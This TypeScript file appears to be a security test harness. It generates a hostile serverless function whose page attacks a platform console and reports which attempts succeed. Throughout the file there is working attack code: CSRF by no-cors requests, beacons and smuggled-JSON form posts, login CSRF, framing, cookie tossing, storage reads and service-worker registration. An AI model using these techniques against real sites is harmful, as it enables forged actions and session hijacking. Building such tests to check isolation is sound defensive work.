/** What a hostile function serves: a page that attacks the console of a server, and reports what came of it. */

export interface Victim {
  /** Origin of the console. */
  readonly console: string;
  /** Paths of a script and a style of the console. */
  readonly script: string;
  readonly style: string;
  /** Host for which it tries to set cookies. */
  readonly site: string;
  /** Of a link of the attacker. */
  readonly code: string;
}

/** Attacks by name; each answers what it got, or throws. Runs in the browser. */
const ATTACKS = String.raw`
const api = victim.console + "/api/v1/functions";
const session = victim.console + "/auth/v1/session";
const withCookie = { credentials: "include" };
const own = { "Content-Type": "application/json", "X-Invoked-Console": "1" };
const event = (target, good) => new Promise((resolve, reject) => {
  target.addEventListener(good, () => resolve(good));
  target.addEventListener("error", () => reject(new Error("an event of error")));
});
const added = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties);
  document.head.append(element);
  return event(element, "load");
};
const send = async (url, init) => {
  const response = await fetch(url, { ...withCookie, ...init });
  return response.type + " " + response.status + " " + await response.text();
};
const newFunction = (by) => JSON.stringify({ displayName: by });
const submit = (action, name, value) => {
  const frame = Object.assign(document.createElement("iframe"), { name: "of " + action });
  const form = Object.assign(document.createElement("form"), {
    action, method: "post", enctype: "text/plain", target: frame.name,
  });
  form.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(frame, form);
  const loaded = event(frame, "load");
  form.submit();
  return loaded;
};
const framed = async (path) => {
  const frame = Object.assign(document.createElement("iframe"), { src: victim.console + path });
  document.body.append(frame);
  await event(frame, "load");
  return frame.contentWindow;
};
const tried = (attack) => {
  try {
    return String(attack());
  } catch (error) {
    return error.name;
  }
};
const attacks = {
  "read by fetch": () => send(api),
  "read without CORS": () => send(api, { mode: "no-cors" }),
  "read by XMLHttpRequest": async () => {
    const request = Object.assign(new XMLHttpRequest(), { withCredentials: true });
    request.open("GET", api);
    request.send();
    await event(request, "load");
    return request.responseText;
  },
  "read events": () =>
    event(new EventSource(victim.console + "/api/v1/events", { withCredentials: true }), "open"),
  "open a WebSocket": () =>
    event(new WebSocket(victim.console.replace("http", "ws") + "/api/v1/events"), "open"),
  "read the session": () => send(session),
  "run the API as a script": () => added("script", { src: api }),
  "run a script of the console": () => added("script", { src: victim.console + victim.script }),
  "import a script of the console": () => import(victim.console + victim.script),
  "use a style of the console": () =>
    added("link", { rel: "stylesheet", href: victim.console + victim.style }),

  "create with the header": () =>
    send(api, { method: "POST", headers: own, body: newFunction("by fetch") }),
  "create without the header": () =>
    send(api, { method: "POST", mode: "no-cors", body: newFunction("by simple request") }),
  "create by a beacon": async () => navigator.sendBeacon(api, newFunction("by beacon")),
  "create by a form": () => submit(api, '{"displayName": "by form", "commitMessage": "', '"}'),
  "sign out": () => send(session, { method: "DELETE", headers: own, body: "{}" }),
  "sign in by fetch": () =>
    send(session, { method: "POST", headers: own, body: JSON.stringify({ code: victim.code }) }),
  "sign in without CORS": () =>
    send(session, { method: "POST", mode: "no-cors", body: JSON.stringify({ code: victim.code }) }),
  "sign in by a form": () => submit(session, '{"code": "' + victim.code + '", "x": "', '"}'),

  "frame the console": async () => (await framed("/functions")).document.title,
  "frame the sign-in": async () => (await framed("/sign-in#code=" + victim.code)).location.href,
  "read the storage of a frame": async () => (await framed("/settings")).localStorage.length,
  "drive a window": async () => {
    const opened = open(victim.console + "/functions?q=opened", "victim");
    if (opened === null) throw new Error("no window");
    while (!opened.closed) {
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const found = [
      "closed: " + opened.closed,
      "title: " + tried(() => opened.document.title),
      "address: " + tried(() => opened.location.href),
      "storage: " + tried(() => opened.localStorage.length),
    ];
    tried(() => opened.postMessage("hostile", "*"));
    tried(() => opened.location = victim.console + "/sign-in#code=" + victim.code);
    tried(() => opened.close());
    return found.join(", ");
  },
  "see who opened it": async () => String(opener) + document.referrer,

  "read storage": async () => Object.keys(localStorage).join(),
  "read cookies": async () => document.cookie,
  "toss cookies": async () => {
    for (const domain of ["", "; Domain=" + victim.site]) {
      for (const path of ["/", "/api", "/auth"]) {
        for (const name of ["invoked_session", "__Host-invoked_session"]) {
          document.cookie = name + "=tossed; Secure; Path=" + path + domain;
          document.cookie = name + "=tossed; Path=" + path + domain;
        }
      }
    }
    return document.cookie;
  },
  "register a service worker of the console": () =>
    navigator.serviceWorker.register(victim.console + "/run/hostile/worker.js", { scope: "/" }),
  "start a worker of the console": () =>
    event(new Worker(victim.console + "/run/hostile/worker.js"), "message"),
  "share a worker of the console": () =>
    event(new SharedWorker(victim.console + "/run/hostile/worker.js").port, "message"),
};
// A frame that is blocked may have no event; for the others this is a bound for what hangs.
const limitOf = (name) => /\bframe\b/.test(name) ? 45_000 : 150_000;
const outcomes = async (names) => {
  const outcome = async (name) => {
    const late = new Promise((resolve) => setTimeout(() => resolve("nothing in time"), limitOf(name)));
    try {
      return [name, "got " + await Promise.race([attacks[name](), late])];
    } catch (error) {
      return [name, "failed: " + error];
    }
  };
  return Object.fromEntries(await Promise.all(names.map(outcome)));
};`;

/** The attacks as an expression, whose value is a promise of the outcomes. @param names of the attacks; all by default */
export function attackSource(victim: Victim, names?: readonly string[]): string {
  const wanted = names === undefined ? "Object.keys(attacks)" : JSON.stringify(names);
  return `((victim) => {${ATTACKS}\nreturn outcomes(${wanted});\n})(${JSON.stringify(victim)})`;
}

/** A function that serves the page at its endpoint and as the answer to a webhook, with headers that act on origins. */
export function hostileFunction(victim: Victim): string {
  const page = `<!doctype html><title>hostile</title><pre id="report"></pre><script>
addEventListener("DOMContentLoaded", async () => {
  document.getElementById("report").textContent = JSON.stringify(await ${attackSource(victim)});
});
</script>`;
  const cookie = `invoked_session=tossed; Path=/; Domain=${victim.site}`;
  return `const page = ${JSON.stringify(page)};
const headers = {
  "Content-Type": "text/html",
  "Clear-Site-Data": '"cookies", "storage"',
  "Service-Worker-Allowed": "/",
  "Set-Cookie": ${JSON.stringify(cookie)},
};
export default () => ({ status: 200, headers, body: page });
export const fetch = (request) => request.url.endsWith(".js")
  ? new Response("globalThis.postMessage?.(1)", {
    headers: { ...headers, "Content-Type": "text/javascript" },
  })
  : new Response(page, { headers });
`;
}
